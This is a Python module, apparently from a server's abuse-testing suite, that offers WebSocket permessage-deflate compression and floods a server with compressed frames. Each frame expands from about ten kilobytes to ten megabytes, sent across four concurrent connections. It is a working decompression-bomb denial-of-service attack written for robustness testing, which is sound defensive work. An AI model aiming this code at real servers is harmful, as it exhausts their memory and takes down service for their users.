"""Frames that claim to be compressed, and offers of compression with the handshake."""

from __future__ import annotations

import zlib

from abuse.hostile import Hostile, frame

OFFER = {"Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits=15"}


async def attack(hostile: Hostile) -> None:
    """Ten megabytes of spaces in a frame of ten kilobytes, again and again."""
    squeezed = zlib.compress(b" " * 10_000_000, wbits=-15)

    async def squeeze() -> None:
        line = await hostile.enter(hostile.match, None, headers=OFFER)
        for _ in range(20):
            if not await line.send(frame(squeezed, compressed=True)):
                break
            hostile.count("frames")
        await line.read(0.1)
        line.close()

    await hostile.together(squeeze, 4)
